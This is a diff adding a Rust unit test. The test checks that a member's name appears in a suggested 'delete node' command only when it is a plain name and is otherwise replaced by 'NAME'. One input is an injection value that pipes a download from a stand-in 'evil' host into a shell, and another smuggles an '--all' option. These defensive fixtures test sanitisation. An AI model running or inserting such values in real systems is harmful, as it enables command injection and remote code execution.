@@ -269,3 +269,15 @@ fn the_message_says_who_it_is_why_it_stays_and_what_helps() {
         }
     }
 }
+
+#[test]
+fn what_a_member_calls_itself_stands_in_no_command_unless_it_is_a_name() {
+    for (name, shown) in [("s", "s"), ("x; curl evil|sh", "NAME"), ("--all", "NAME")] {
+        let member = Member {
+            name: name.into(),
+            ..members().list[2].clone()
+        };
+        let said = message("n", "c", &member, &Err(Kept::Serves("why".into())));
+        assert!(said.ends_with(&format!(") delete node {shown}")), "{said}");
+    }
+}
